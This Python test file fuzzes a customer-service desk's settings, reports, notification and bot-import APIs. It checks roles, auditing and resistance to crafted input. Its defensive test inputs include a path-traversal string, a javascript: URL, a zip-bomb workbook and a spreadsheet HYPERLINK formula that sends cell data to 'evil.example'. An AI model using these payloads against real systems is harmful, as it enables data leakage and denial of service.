"""Crafted input and roles at the edges this session added, through the real app: the bot's
import (``POST /api/bot/import``, its template), template messages (``POST``/``GET
/api/notifications``, ``/api/notifications/templates``), reports (``GET /api/reports``,
``/api/reports/agents``) and the settings ``templates``, ``notification_limits``,
``self_service`` and ``alerts``.

Every bad input is a 4xx naming its field and changes nothing (the setting's version, the
notifications, the bot's answers); no input makes a 500 or a traceback in the log; each role
gets exactly what it should; each setting change is audited. The features added no socket
command (desk/commands.py's registry is unchanged), so there is no frame to craft here.
"""

from __future__ import annotations

import json
import logging
from typing import Any
from urllib.parse import urlencode

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tests.server.test_crafted_input import assert_no_traceback, json_values, run

SETTINGS = settings(max_examples=40, deadline=None, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
NEW_SETTINGS = ("templates", "notification_limits", "self_service", "alerts", "menu", "bot_answers")
ROLES = ("alice", "super", "qa", "admin")
# Texts a careless or hostile caller sends as a query value.
odd_text = st.one_of(
    st.text(max_size=40),
    st.sampled_from(["", " ", "NaN", "Infinity", "-1", "1e309", "9" * 400, "0x10", "１２", "2026-02-30",
                     "2026-13-01", "America", "Asia", "a" * 300, "../../etc/passwd", "UTC\x00", "Z",
                     "2026-01-01T00:00:00", "9999-12-31", "0001-01-01", "2026-W01-1", "+08:00"]),
)


def bad_field(status: int, data: Any) -> str:
    """The named field of a 400 ``bad_field`` (asserted to be one)."""
    assert status == 400, (status, data)
    assert data["error"]["code"] == "bad_field" and data["error"]["field"], data
    return str(data["error"]["field"])


def not_a_500(status: int, data: Any) -> None:
    assert 400 <= status < 500 or status in (200, 201), (status, data)
    if status >= 400:
        assert isinstance(data, dict) and data["error"]["code"] != "internal", data


async def tokens(login) -> dict[str, str]:
    return {name: (await login(name))[0] for name in ROLES}


# -- settings --------------------------------------------------------------------------------------

@pytest.mark.parametrize("key", NEW_SETTINGS)
def test_a_new_setting_takes_no_junk_and_a_refusal_changes_nothing(io_loop, api, login, key, caplog) -> None:
    caplog.set_level(logging.WARNING)
    admin = run(io_loop, lambda: login("admin"))[0]
    state = {"version": run(io_loop, lambda: api(f"/api/settings/{key}?meta=1", token=admin))[1]["version"]}

    @SETTINGS
    @given(value=st.one_of(json_values, st.dictionaries(st.text(max_size=24), json_values, max_size=4),
                           st.lists(st.dictionaries(st.sampled_from(["id", "title", "purpose", "fields", "key",
                                                                     "label", "skills", "enabled"]),
                                                    json_values, max_size=5), max_size=3)))
    @example(value={"oldest_wait_s": 1e308, "service_level_below": -1})
    @example(value={"caller_per_minute": 10 ** 30})
    @example(value=[{"id": "x" * 5000, "title": "t", "fields": [{"key": "a", "label": "b"}]}])
    @example(value={"skills": {"\u0000": {"oldest_wait_s": 10}}})
    @example(value={"button": [{"type": "click", "name": "查", "key": "self:nonsense"}]})
    @example(value={"button": [{"type": "click", "name": "查", "key": ["self:bill"]}]})
    @example(value=[{"question": "q" * 10_000, "answer": "a"}])
    @example(value=[{"question": "q", "answer": "a", "skills": [{"x": 1}]}])
    def check(value: Any) -> None:
        status, data = run(io_loop, lambda: api(f"/api/settings/{key}", "PUT", json.dumps(value), token=admin,
                                                headers={"Content-Type": "application/json"}))
        not_a_500(status, data)
        if status != 200:
            assert status == 400 and data["error"]["code"] in ("bad_field", "invalid_json"), data
            if data["error"]["code"] == "bad_field":
                assert "field" in data["error"], data  # (self_service names an unknown key "" as "")
            now = run(io_loop, lambda: api(f"/api/settings/{key}?meta=1", token=admin))[1]
            assert now["version"] == state["version"], (value, now)
        else:
            state["version"] = run(io_loop, lambda: api(f"/api/settings/{key}?meta=1", token=admin))[1]["version"]

    check()
    for raw in (b"NaN", b"Infinity", b"[" * 50_000, b"\xff\xfe", b"{\"a\": 1e999}"):
        status, data = run(io_loop, lambda raw=raw: api(f"/api/settings/{key}", "PUT", raw, token=admin))
        assert status == 400 and data["error"]["code"] in ("invalid_json", "bad_field"), (raw[:20], data)
    assert_no_traceback(caplog)


@pytest.mark.gen_test(timeout=60)
async def test_new_settings_are_admins_to_change_and_each_change_is_audited(api, login) -> None:
    who = await tokens(login)
    changes = {"templates": [{"id": "tpl-hardening", "title": "测试", "purpose": "transaction",
                              "fields": [{"key": "thing1", "label": "内容"}]}],
               "notification_limits": {"caller_burst": 7}, "self_service": {"lock_minutes": 5},
               "alerts": {"queue_length_above": 9}}
    for key, value in changes.items():
        before = (await api(f"/api/settings/{key}?meta=1", token=who["admin"]))[1]
        for name in ("alice", "super", "qa"):
            status, data = await api(f"/api/settings/{key}", "PUT", value, token=who[name])
            assert status == 403 and data["error"]["code"] == "forbidden", (key, name, data)
        status, data = await api(f"/api/settings/{key}", "PUT", value)
        assert status == 401, (key, data)
        assert (await api(f"/api/settings/{key}?meta=1", token=who["admin"]))[1]["version"] == before["version"]
        status, data = await api(f"/api/settings/{key}", "PUT", value, token=who["admin"])
        assert status == 200, (key, data)
        status, audit = await api("/api/audit?" + urlencode({"action": "setting_changed"}), token=who["admin"])
        assert status == 200, audit
        assert any(e.get("target") == key or (e.get("details") or {}).get("key") == key
                   for e in audit["entries"]), (key, audit)


# -- reports ---------------------------------------------------------------------------------------

def test_report_questions_never_make_a_500(io_loop, api, login, caplog) -> None:
    caplog.set_level(logging.WARNING)
    admin = run(io_loop, lambda: login("admin"))[0]

    @SETTINGS
    @given(path=st.sampled_from(["/api/reports", "/api/reports/agents"]),
           query=st.dictionaries(st.sampled_from(["from", "to", "tz", "by", "format"]), odd_text, max_size=5))
    @example(path="/api/reports", query={"from": "2026-03-01", "to": "2026-03-02", "by": "day", "tz": "a" * 300})
    @example(path="/api/reports/agents", query={"from": "2026-03-01", "to": "2026-03-02", "tz": "America"})
    @example(path="/api/reports", query={"from": "0001-01-01", "to": "0001-01-02", "by": "day", "tz": "Etc/GMT-14"})
    @example(path="/api/reports", query={"from": "9999-12-31", "to": "9999-12-31T23:00:00+00:00", "by": "hour",
                                         "tz": "Etc/GMT+12"})
    def check(path: str, query: dict[str, str]) -> None:
        status, data = run(io_loop, lambda: api(f"{path}?{urlencode(query)}", token=admin))
        not_a_500(status, data)
        if status != 200:
            assert data["error"]["field"] in query or data["error"]["field"] in ("from", "to", "by"), (query, data)

    check()
    assert_no_traceback(caplog)


@pytest.mark.gen_test(timeout=30)
@pytest.mark.parametrize("tz", ["a" * 300, "America", "Asia", "posix"])
async def test_a_time_zone_that_is_a_directory_or_too_long_is_400_tz(api, login, tz) -> None:
    admin, _ = await login("admin")
    for path in ("/api/reports?by=skill&", "/api/reports/agents?"):
        status, data = await api(f"{path}from=2026-03-01&to=2026-03-02&tz={tz}", token=admin)
        assert bad_field(status, data) == "tz", data


@pytest.mark.gen_test(timeout=30)
async def test_a_query_argument_that_is_not_utf8_is_400_naming_it(api, login) -> None:
    admin, _ = await login("admin")
    status, data = await api("/api/reports?by=skill&from=2026-03-01&to=2026-03-02&tz=%FF", token=admin)
    assert bad_field(status, data) == "tz", data
    status, data = await api("/api/sessions?q=%C3%28", token=admin)
    assert bad_field(status, data) == "q", data


@pytest.mark.gen_test(timeout=30)
async def test_reports_by_role(api, login) -> None:
    who = await tokens(login)
    query = "from=2026-03-01&to=2026-03-02"
    for path in (f"/api/reports?{query}&by=agent", f"/api/reports/agents?{query}",
                 f"/api/reports?{query}&by=skill&format=csv", f"/api/reports/agents?{query}&format=csv"):
        assert (await api(path))[0] == 401
        for name, expected in (("alice", 403), ("qa", 403), ("super", 200), ("admin", 200)):
            assert (await api(path, token=who[name]))[0] == expected, (path, name)


# -- notifications ---------------------------------------------------------------------------------

async def bank_token(api, login) -> str:
    from tests.server.test_notifications import bank_token as make

    return await make(api, login)


def test_notification_bodies_and_queries_never_make_a_500_and_send_nothing(io_loop, api, login, kefu,
                                                                          caplog) -> None:
    from tests.server.test_notifications import TXN, TXN_DATA

    caplog.set_level(logging.WARNING)
    bank = run(io_loop, lambda: bank_token(api, login))
    admin = run(io_loop, lambda: login("admin"))[0]

    @SETTINGS
    @given(body=st.one_of(
        json_values,
        st.fixed_dictionaries({"openid": json_values, "template_id": json_values, "data": json_values},
                              optional={"url": json_values, "kind": json_values, "extra": json_values}),
        st.fixed_dictionaries({"openid": st.just("o-hard"), "template_id": st.just(TXN),
                               "data": st.dictionaries(st.sampled_from(sorted(TXN_DATA)), json_values, max_size=5)},
                              optional={"url": odd_text, "kind": odd_text, "session_id": json_values}),
    ))
    @example(body={"openid": "o-hard", "template_id": TXN, "data": {**TXN_DATA, "thing3": "x" * 100_000}})
    @example(body={"openid": "o" * 65, "template_id": TXN, "data": TXN_DATA})
    @example(body={"openid": "o-hard", "template_id": TXN, "data": TXN_DATA, "url": "javascript:alert(1)"})
    @example(body={"openid": "o-hard", "template_id": TXN, "data": TXN_DATA, "kind": "交易"})
    @example(body={"openid": "o-hard", "template_id": TXN, "data": {**TXN_DATA, "amount4": {"value": "1元",
                                                                                          "color": ["#FFF"]}}})
    def check(body: Any) -> None:
        status, data = run(io_loop, lambda: api("/api/notifications", "POST", json.dumps(body), token=bank,
                                                headers={"Content-Type": "application/json"}))
        not_a_500(status, data)
        assert status == 400 and data["error"]["code"] in ("bad_field", "invalid_json"), (body, data)
        if data["error"]["code"] == "bad_field":
            assert "field" in data["error"], data  # an unknown key "" is named as it is: ""

    @SETTINGS
    @given(query=st.dictionaries(st.sampled_from(["openid", "kind", "limit", "offset"]), odd_text, max_size=4))
    @example(query={"limit": "9" * 5000})
    @example(query={"offset": "-1"})
    @example(query={"openid": "o\u0000"})
    def listing(query: dict[str, str]) -> None:
        for token in (bank, admin):
            status, data = run(io_loop, lambda token=token: api(f"/api/notifications?{urlencode(query)}",
                                                                token=token))
            not_a_500(status, data)
            if status == 200:
                assert data["notifications"] == []
            else:
                assert status in (400, 403), data

    check()
    listing()
    assert run(io_loop, lambda: kefu.store.list_notifications(limit=10)) == []
    assert_no_traceback(caplog)


@pytest.mark.gen_test(timeout=60)
async def test_notifications_by_role(api, login, customer, kefu) -> None:
    from tests.server.test_notifications import TXN, TXN_DATA

    await customer.send_text("o-role", "你好")  # a follower WeChat knows; queued, nobody serves them
    await kefu.desk.inbound.drain()
    who = await tokens(login)
    bank = await bank_token(api, login)
    body = {"openid": "o-role", "template_id": TXN, "data": TXN_DATA}
    assert (await api("/api/notifications", "POST", body))[0] == 401
    assert (await api("/api/notifications"))[0] == 401
    assert (await api("/api/notifications/templates"))[0] == 401
    for name in ("alice", "super", "qa"):
        status, data = await api("/api/notifications", "POST", body, token=who[name])
        assert status == 403 and data["error"]["code"] == "forbidden", (name, data)
    # Listing everyone's: admin, QA, a supervisor of no team; an agent must name a customer.
    for name, expected in (("alice", 403), ("super", 200), ("qa", 200), ("admin", 200)):
        assert (await api("/api/notifications", token=who[name]))[0] == expected, name
        assert (await api("/api/notifications/templates", token=who[name]))[0] == 200, name
    # A customer alice never served: refused, like every other read of a customer.
    status, data = await api("/api/notifications?openid=o-role", token=who["alice"])
    assert status == 403 and data["error"]["code"] == "not_your_customer", data
    status, sent = await api("/api/notifications", "POST", body, token=bank)
    assert status == 201, sent
    status, data = await api("/api/notifications?openid=o-role", token=who["alice"])
    assert status == 403, data
    # A supervisor in a team lists only their team's customers.
    _, super_user = await login("super")
    _, bob = await login("bob")
    status, team = await api("/api/teams", "POST", {"name": "卡组", "supervisors": [super_user["id"]],
                                                    "members": [bob["id"]]}, token=who["admin"])
    assert status == 201, team
    status, data = await api("/api/notifications", token=who["super"])
    assert status == 403, data
    status, data = await api("/api/notifications?openid=o-role", token=who["super"])
    assert status == 403 and data["error"]["code"] == "not_your_customer", data
    # The bank reads its own, not another caller's.
    status, data = await api("/api/notifications", token=bank)
    assert status == 200 and [n["id"] for n in data["notifications"]] == [sent["id"]]
    assert (await api("/api/notifications", token=who["admin"]))[1]["notifications"][0]["id"] == sent["id"]


# -- the bot's import ------------------------------------------------------------------------------

def far_cell_xlsx(cell: str) -> bytes:
    """A 5 KB workbook of one answer and a stray cell far down (and right): read naively, up to
    17 billion empty cells (the server hung, its memory growing)."""
    import io

    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["question", "answer"])
    sheet.append(["年费怎么免", "刷卡满6次免年费。"])
    sheet[cell] = "x"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.gen_test(timeout=60)
async def test_a_small_workbook_of_a_million_empty_rows_is_refused_quickly(api, login, kefu) -> None:
    from tests.server.test_bot_import import XLSX_TYPE

    admin, _ = await login("admin")
    before = await kefu.desk.settings.entry("bot_answers")
    status, data = await api("/api/bot/import?format=xlsx", "POST", far_cell_xlsx("C1048576"), token=admin,
                             headers=XLSX_TYPE)
    assert bad_field(status, data) == "file" and "rows" in data["error"]["message"], data
    # Past column Z a cell is not read (notes beside the answers): the answer above is previewed.
    status, data = await api("/api/bot/import?format=xlsx&dry_run=1", "POST", far_cell_xlsx("XFD1048576"),
                             token=admin, headers=XLSX_TYPE)
    assert status == 200 and data["rows"] == 1, data
    assert (await kefu.desk.settings.entry("bot_answers"))["version"] == before["version"]


def inflated_xlsx(megabytes: int) -> bytes:
    """A workbook whose one answer is ``megabytes`` MB of text: some 100 KB zipped."""
    import io
    import zipfile

    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["question", "answer"])
    sheet.append(["年费怎么免", "PLACEHOLDER"])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            part = src.read(item.filename)
            dst.writestr(item, part.replace(b"PLACEHOLDER", b"a" * (megabytes << 20)))
    return out.getvalue()


@pytest.mark.gen_test(timeout=60)
async def test_a_zipped_workbook_that_inflates_past_reason_is_refused_unread(api, login) -> None:
    from tests.server.test_bot_import import XLSX_TYPE

    admin, _ = await login("admin")
    body = inflated_xlsx(60)
    assert len(body) < 1024 * 1024
    status, data = await api("/api/bot/import?format=xlsx&dry_run=1", "POST", body, token=admin, headers=XLSX_TYPE)
    assert bad_field(status, data) == "file" and "MB" in data["error"]["message"], data


@pytest.mark.gen_test(timeout=60)
async def test_trying_questions_for_made_up_skills_keeps_one_index(api, login, kefu) -> None:
    admin, _ = await login("admin")
    status, _ = await api("/api/bot/answers", "POST", {"question": "年费怎么免", "answer": "刷卡满6次免年费。"},
                          token=admin)
    assert status == 201
    for i in range(30):
        status, tried = await api("/api/bot/try", "POST", {"question": "年费", "skill": f"made-up-{i}"},
                                  token=admin)
        assert status == 200 and tried["answered"] is not None, tried
    # Each made-up skill is answered by the answers for every skill: one index, not one per name.
    assert len(kefu.desk.bot.kb._matchers) <= 2
    status, data = await api("/api/bot/try", "POST", {"question": "年" * 100_000}, token=admin)
    assert bad_field(status, data) == "question", data
    status, data = await api("/api/bot/try", "POST", {"question": "年费", "skill": "s" * 100_000}, token=admin)
    assert bad_field(status, data) == "skill", data


def test_import_bodies_never_make_a_500_and_import_nothing(io_loop, api, login, kefu, caplog) -> None:
    caplog.set_level(logging.WARNING)
    admin = run(io_loop, lambda: login("admin"))[0]
    state = {"version": run(io_loop, lambda: kefu.desk.settings.entry("bot_answers"))["version"]}
    row = st.lists(st.one_of(st.text(max_size=30), st.sampled_from(["问题", "答案", "question", "answer", "技能"])),
                   max_size=6)

    @SETTINGS
    @given(body=st.one_of(
        st.binary(max_size=300),
        st.lists(row, max_size=5).map(lambda rows: "\n".join(",".join(r) for r in rows).encode()),
        st.text(max_size=200).map(lambda t: ("question,answer\n" + t).encode("utf-8", "surrogatepass")),
        st.just(b"PK\x03\x04" + b"\x00" * 100),
    ), fmt=st.sampled_from(["csv", "xlsx", "", "pdf", "CSV", "x" * 300]),
        content_type=st.sampled_from(["text/csv", "application/json", "multipart/form-data; boundary=x",
                                      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"]))
    @example(body=b"question,answer\n" + b"\"" * 5000, fmt="csv", content_type="text/csv")
    @example(body=b"question,answer\nq,a\n" * 3000, fmt="csv", content_type="text/csv")
    @example(body=b"question,answer\n" + ",".join(["x"] * 20_000).encode(), fmt="csv", content_type="text/csv")
    def check(body: bytes, fmt: str, content_type: str) -> None:
        query = urlencode({"format": fmt, "dry_run": "0"}) if fmt else "dry_run=0"
        status, data = run(io_loop, lambda: api(f"/api/bot/import?{query}", "POST", body, token=admin,
                                                headers={"Content-Type": content_type}))
        not_a_500(status, data)
        now = run(io_loop, lambda: kefu.desk.settings.entry("bot_answers"))["version"]
        if status != 200:
            # A broken multipart body is refused by Tornado before the handler: 400 bad_request.
            codes = ("bad_field", "too_large") + (("bad_request",) if content_type.startswith("multipart") else ())
            assert status in (400, 413) and data["error"]["code"] in codes, data
            assert now == state["version"], data
        state["version"] = now

    check()
    for raw in ("pdf", "x" * 300, ""):
        status, data = run(io_loop, lambda raw=raw: api(f"/api/bot/import/template?format={raw}", token=admin))
        assert bad_field(status, data) == "format", raw
    assert_no_traceback(caplog)


@pytest.mark.gen_test(timeout=60)
async def test_the_bot_import_is_the_admins(api, login, kefu) -> None:
    who = await tokens(login)
    body = "question,answer\n年费怎么免,刷卡满6次免年费。\n".encode()
    version = (await kefu.desk.settings.entry("bot_answers"))["version"]
    assert (await api("/api/bot/import", "POST", body, headers={"Content-Type": "text/csv"}))[0] == 401
    assert (await api("/api/bot/import/template"))[0] == 401
    for name in ("alice", "super", "qa"):
        status, data = await api("/api/bot/import", "POST", body, token=who[name], headers={"Content-Type": "text/csv"})
        assert status == 403, (name, data)
        assert (await api("/api/bot/import/template", token=who[name]))[0] == 403, name
    assert (await kefu.desk.settings.entry("bot_answers"))["version"] == version
    status, data = await api("/api/bot/import", "POST", body, token=who["admin"], headers={"Content-Type": "text/csv"})
    assert status == 200 and data["added"] == ["年费怎么免"], data
    status, audit = await api("/api/audit?" + urlencode({"action": "setting_changed", "target": "bot_answers"}),
                              token=who["admin"])
    assert status == 200 and len(audit["entries"]) == 1, audit


# -- report files ----------------------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.mark.gen_test(timeout=60)
async def test_a_name_that_looks_like_a_formula_stays_text_in_the_report_files(api, login, base_url) -> None:
    import csv
    import io

    import openpyxl
    import tornado.httpclient

    admin, _ = await login("admin")
    status, user = await api("/api/users", "POST", {"username": "formula", "password": "a-long-password",
                                                    "roles": ["agent"], "name": FORMULA_NAME}, token=admin)
    assert status == 201, user
    client = tornado.httpclient.AsyncHTTPClient()

    async def download(fmt: str) -> bytes:
        response = await client.fetch(f"{base_url}/api/reports/agents?from=2026-03-01&to=2026-03-02&format={fmt}",
                                      headers={"Authorization": f"Bearer {admin}"})
        assert response.code == 200
        return response.body

    book = openpyxl.load_workbook(io.BytesIO(await download("xlsx")))
    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert len(cells) == 1 and cells[0].data_type == "s", [(c.value, c.data_type) for c in cells]
    assert cells[0].value == FORMULA_NAME  # the name as typed, not a formula
    rows = list(csv.reader(io.StringIO((await download("csv")).decode("utf-8-sig"))))
    names = [r[1] for r in rows if "HYPERLINK" in r[1]]
    # Excel runs a cell starting with = + - @ as a formula: the CSV's cell starts with a quote.
    assert names == ["'" + FORMULA_NAME], names


# -- the bank's integration user reads no customer -------------------------------------------------

@pytest.mark.gen_test(timeout=60)
async def test_the_integration_user_sends_notifications_and_reads_nothing_else(api, login, console, customer,
                                                                              kefu) -> None:
    bank = await bank_token(api, login)
    alice = await console("alice")
    await alice.ok("presence", status="available")
    await customer.send_text("o-int", "我的卡被盗刷了")
    offer = await alice.event("offer")
    session_id = (await alice.ok("accept", session_id=offer["session_id"]))["session"]["id"]
    for path in (f"/api/sessions/{session_id}", "/api/customers/o-int", "/api/customers/o-int/sessions",
                 "/api/settings/templates", "/api/reports?from=2026-03-01&to=2026-03-02&by=skill",
                 "/api/bot/answers", "/api/audit"):
        status, data = await api(path, token=bank)
        assert status == 403, (path, status, data)
        assert "o-int" not in json.dumps(data, ensure_ascii=False) and "盗刷" not in json.dumps(data), (path, data)
    status, data = await api("/api/customers/o-int", "PATCH", {"note": "x"}, token=bank)
    assert status == 403, data
    # The socket: a bank system gets a welcome with nothing of anyone's, and every command that
    # would act on or watch a session is refused; nothing it sends reaches the customer.
    socket = await console("core-banking", token=bank)
    assert "o-int" not in json.dumps(socket.welcome, ensure_ascii=False), socket.welcome
    for frame in ({"type": "send", "session_id": session_id, "text": "假客服"},
                  {"type": "monitor", "session_id": session_id}, {"type": "subscribe_queues"}):
        result = await socket.command(frame.pop("type"), **frame)
        assert result["ok"] is False and result["error"]["code"] in ("forbidden", "not_your_session"), result
    await kefu.desk.inbound.drain()
    assert "假客服" not in json.dumps(kefu.simulator.platform.replies.get("o-int", []), ensure_ascii=False)


@pytest.mark.gen_test(timeout=60)
async def test_a_dry_run_the_server_does_not_understand_imports_nothing(api, login, kefu) -> None:
    admin, _ = await login("admin")
    body = "question,answer\n年费怎么免,刷卡满6次免年费。\n".encode()
    version = (await kefu.desk.settings.entry("bot_answers"))["version"]
    for value in ("on", "2", "preview", "y", "是"):
        status, data = await api(f"/api/bot/import?dry_run={value}", "POST", body, token=admin,
                                 headers={"Content-Type": "text/csv"})
        assert bad_field(status, data) == "dry_run", (value, data)
    for value in ("1", "true", "True", "yes"):
        status, data = await api(f"/api/bot/import?dry_run={value}", "POST", body, token=admin,
                                 headers={"Content-Type": "text/csv"})
        assert status == 200 and data["dry_run"] is True, (value, data)
    assert (await kefu.desk.settings.entry("bot_answers"))["version"] == version
    status, data = await api("/api/bot/import?dry_run=0", "POST", body, token=admin,
                             headers={"Content-Type": "text/csv"})
    assert status == 200 and data["dry_run"] is False and data["added"] == ["年费怎么免"], data
